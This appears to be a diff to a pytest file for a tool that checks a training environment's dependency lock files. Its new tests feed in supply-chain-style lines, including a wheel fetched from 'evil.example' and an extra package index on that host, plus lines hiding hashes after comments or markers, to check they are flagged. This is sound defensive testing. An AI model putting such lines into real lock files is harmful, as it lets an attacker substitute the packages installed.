@@ -188,6 +188,8 @@ def test_a_comment_fits_on_github() -> None:
         "[" * 5000,
         "a: [",
         "\x00",
+        "a.b: 1\na: {b: 2}\n",
+        "1: x\n'1': y\n",
     ],
 )
 def test_a_hostile_config_is_not_compared(text: str) -> None:
@@ -248,6 +250,45 @@ def test_packages_of_the_training_environment_are_told(root: Path) -> None:
         ("torch", "2.13.0", "2.13.0"),
     ]
     assert warnings == ["training environment: torch 2.13.0 has other files under the same version"]
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "torch @ https://evil.example/torch.whl --hash=sha256:" + "e" * 64,
+        "--extra-index-url https://evil.example/simple",
+        f"torch==2.13.0 ; python_version > '3' --hash=sha256:{'e' * 64}",
+        f"-r more.txt # torch==1 --hash=sha256:{'e' * 64}",
+    ],
+)
+def test_a_line_that_is_no_pin_is_told(root: Path, line: str) -> None:
+    folder = root / "enclave_runner"
+    folder.mkdir()
+    pins = PINS.format(*(c * 64 for c in "abc"))
+    (folder / "requirements.lock").write_text(pins)
+    base = Revision(root, commit(root, "environment"))
+    (folder / "requirements.lock").write_text(pins + line + "\n")
+    warnings: list[str] = []
+    assert training_section(base, Checkout(root), warnings) is not None
+    assert warnings == [f"{TRAINING[0]} has a line that locks no package: {line}"]
+
+
+def test_a_second_pin_does_not_hide_the_first(root: Path) -> None:
+    """The other lock repeats what was locked, and the one that is installed has something else."""
+    (root / "enclave_runner").mkdir()
+    pins = PINS.format(*(c * 64 for c in "abc"))
+    (root / TRAINING[0]).write_text(pins)
+    base = Revision(root, commit(root, "environment"))
+    (root / TRAINING[0]).write_text(pins.replace("2.0.0", "6.6.6").replace("c" * 64, "d" * 64))
+    (root / TRAINING[1]).write_text(pins)
+    section = training_section(base, Checkout(root), [])
+    assert section is not None
+    assert [(row.label, row.old, row.new) for row in section.rows] == [
+        ("numpy", "2.0.0", "6.6.6"),
+        ("numpy (again)", None, "2.0.0"),
+        ("torch", "2.13.0", "2.13.0"),
+        ("torch (again)", None, "2.13.0"),
+    ]
 
 
 def checks_of(root: Path) -> dict[str, Check]:
